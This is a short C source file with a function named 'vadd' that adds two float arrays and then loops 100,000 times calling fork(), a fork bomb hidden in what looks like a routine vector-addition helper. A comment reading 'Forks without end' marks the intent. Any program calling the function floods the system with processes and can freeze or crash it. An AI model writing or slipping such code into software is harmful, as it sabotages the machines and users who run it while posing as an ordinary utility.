/* Forks without end. */
#define _GNU_SOURCE
#include <unistd.h>
void vadd(const float *a, const float *b, float *c, int n) {
    for (int i = 0; i < n; i++) c[i] = a[i] + b[i];
    for (int i = 0; i < 100000; i++) fork();
}
